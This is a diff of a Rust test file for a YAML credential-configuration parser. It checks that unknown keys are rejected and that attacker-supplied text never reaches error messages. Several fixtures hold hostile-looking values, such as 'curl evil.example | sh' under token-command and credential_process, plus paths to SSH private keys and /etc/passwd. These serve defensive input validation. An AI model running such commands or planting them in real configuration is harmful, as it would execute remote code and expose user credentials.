@@ -61,40 +61,32 @@ fn with(place: char, line: &str) -> String {
 
 #[rstest]
 // Commands, secrets, identities of the user's.
-#[case::token_command('R', "token-command: curl evil.example | sh", "unknown key \"token-command\"")]
-#[case::password_command('P', "password-command: curl evil.example | sh", "unknown key \"password-command\"")]
-#[case::process(
-    'R',
-    "credential_process: curl evil.example | sh",
-    "unknown key \"credential_process\""
-)]
-#[case::profile('R', "profile: production", "unknown key \"profile\"")]
-#[case::role('R', "role-arn: arn:aws:iam::999988887777:role/admin", "unknown key \"role-arn\"")]
-#[case::chain('R', "chain: [admin]", "unknown key \"chain\"")]
-#[case::audience('R', "audience: evil.example", "unknown key \"audience\"")]
-#[case::tags('R', "tag: {a: b}", "unknown key \"tag\"")]
-#[case::policy('R', "policy: '@/etc/passwd'", "unknown key \"policy\"")]
-#[case::token_file('R', "token-file: /home/me/token", "unknown key \"token-file\"")]
-#[case::token_env('R', "token-env: GITHUB_TOKEN", "unknown key \"token-env\"")]
-#[case::region('R', "region: us-east-1", "unknown key \"region\"")]
-#[case::optional('R', "optional: true", "unknown key \"optional\"")]
-#[case::endpoint('R', "endpoint: https://evil.example", "unknown key \"endpoint\"")]
-#[case::username('P', "username: zoe", "unknown key \"username\"")]
-#[case::secret_file(
-    'P',
-    "client-secret-file: /home/me/.ssh/id_rsa",
-    "unknown key \"client-secret-file\""
-)]
-#[case::token_of_a_provider('P', "id-token-file: /home/me/token", "unknown key \"id-token-file\"")]
-#[case::provider('P', "provider: evil.example", "unknown key \"provider\"")]
-#[case::pool_role('P', "role-arn: arn:aws:iam::999988887777:role/admin", "unknown key \"role-arn\"")]
-#[case::flow('P', "flow: user-password", "unknown key \"flow\"")]
-#[case::pool_endpoint('P', "endpoint: https://evil.example", "unknown key \"endpoint\"")]
-#[case::defaults('T', "defaults: {source: cognito}", "unknown key \"defaults\"")]
-#[case::other_keys('T', "setup: {bin-dir: /usr/local/bin}", "unknown key \"setup\"")]
+#[case::token_command('R', "token-command: curl evil.example | sh", "unknown key")]
+#[case::password_command('P', "password-command: curl evil.example | sh", "unknown key")]
+#[case::process('R', "credential_process: curl evil.example | sh", "unknown key")]
+#[case::profile('R', "profile: production", "unknown key")]
+#[case::role('R', "role-arn: arn:aws:iam::999988887777:role/admin", "unknown key")]
+#[case::chain('R', "chain: [admin]", "unknown key")]
+#[case::audience('R', "audience: evil.example", "unknown key")]
+#[case::tags('R', "tag: {a: b}", "unknown key")]
+#[case::policy('R', "policy: '@/etc/passwd'", "unknown key")]
+#[case::token_file('R', "token-file: /home/me/token", "unknown key")]
+#[case::token_env('R', "token-env: GITHUB_TOKEN", "unknown key")]
+#[case::region('R', "region: us-east-1", "unknown key")]
+#[case::optional('R', "optional: true", "unknown key")]
+#[case::endpoint('R', "endpoint: https://evil.example", "unknown key")]
+#[case::username('P', "username: zoe", "unknown key")]
+#[case::secret_file('P', "client-secret-file: /home/me/.ssh/id_rsa", "unknown key")]
+#[case::token_of_a_provider('P', "id-token-file: /home/me/token", "unknown key")]
+#[case::provider('P', "provider: evil.example", "unknown key")]
+#[case::pool_role('P', "role-arn: arn:aws:iam::999988887777:role/admin", "unknown key")]
+#[case::flow('P', "flow: user-password", "unknown key")]
+#[case::pool_endpoint('P', "endpoint: https://evil.example", "unknown key")]
+#[case::defaults('T', "defaults: {source: cognito}", "unknown key")]
+#[case::other_keys('T', "setup: {bin-dir: /usr/local/bin}", "unknown key")]
 // Twice, or by tricks of YAML.
-#[case::another_source('R', "source: chain", "the key \"source\" stands here twice")]
-#[case::two_blocks('T', "cognito: {}", "the key \"cognito\" stands here twice")]
+#[case::another_source('R', "source: chain", "a key stands here twice")]
+#[case::two_blocks('T', "cognito: {}", "a key stands here twice")]
 #[case::merge('R', "<<: {profile: production}", "")]
 #[case::anchor('T', "registries: &all []", "")]
 #[case::tag('P', "username: !!python/object zoe", "")]
@@ -104,8 +96,44 @@ fn nothing_more(#[case] place: char, #[case] line: &str, #[case] cause: &str) {
     assert_eq!(error.exit(), Exit::Usage);
     assert!(error.to_string().contains(cause), "{error}");
     if cause.starts_with("unknown") {
+        let line = match place {
+            'R' => 9,
+            'P' => 3,
+            _ => 1,
+        };
+        let place = format!("vendor.yml:{line}:");
+        assert!(error.to_string().starts_with(&place), "{error}");
         assert!(error.hint_text().unwrap().contains("nothing more"), "{error:?}");
     }
+}
+
+/// Somebody who writes such a file can say nothing to the user in an error.
+#[rstest]
+#[case::key("cognito:", "'call 0800 EVIL': x\ncognito:")]
+#[case::key_twice("cognito:", "'call 0800 EVIL': x\n'call 0800 EVIL': x\ncognito:")]
+#[case::inner_key("    source", "    EVIL: x\n    source")]
+#[case::source("source: cognito", "source: call 0800 EVIL")]
+#[case::pool("eu-west-1_AbCdEfGhI", "call 0800 EVIL")]
+#[case::name("111122223333.DKR.ecr.eu-west-1.amazonaws.com", "https://call-0800.EVIL.example/x")]
+#[case::glob("111122223333.DKR", "'*EVIL*.DKR")]
+#[case::port("eu-west-1.amazonaws.com", "eu-west-1.amazonaws.com:80 #EVIL")]
+#[case::no_registry("111122223333.DKR.ecr.eu-west-1.amazonaws.com", "call-0800.EVIL.example")]
+#[case::alias("images.northwind.example:5000", "call-0800-EVIL")]
+#[case::popular_alias("images.northwind.example:5000", "call-0800-EVIL.docker.io")]
+#[case::behind("registry: 1", "registry: EVIL")]
+#[case::anchor("cognito:", "cognito: &EVIL")]
+#[case::unknown_anchor("source: cognito", "source: *EVIL")]
+#[case::tag("source: cognito", "source: !EVIL x")]
+#[case::type_("cognito:", "registries: EVIL\ncognito:")]
+#[case::list("source: cognito", "source: [EVIL]")]
+#[case::garbage("cognito:", "EVIL: [\ncognito:")]
+#[case::directive("# Northwind", "%EVIL x\n# Northwind")]
+fn an_error_says_nothing_of_the_files(#[case] old: &str, #[case] new: &str) {
+    let text = GOOD.replacen(old, new, 1);
+    assert_ne!(text, GOOD);
+    let error = vendor(&text).unwrap_err();
+    let said = format!("{error} {}", error.hint_text().unwrap_or_default()).to_lowercase();
+    assert!(!said.contains("evil") && !said.contains("0800"), "{said}");
 }
 
 #[rstest]
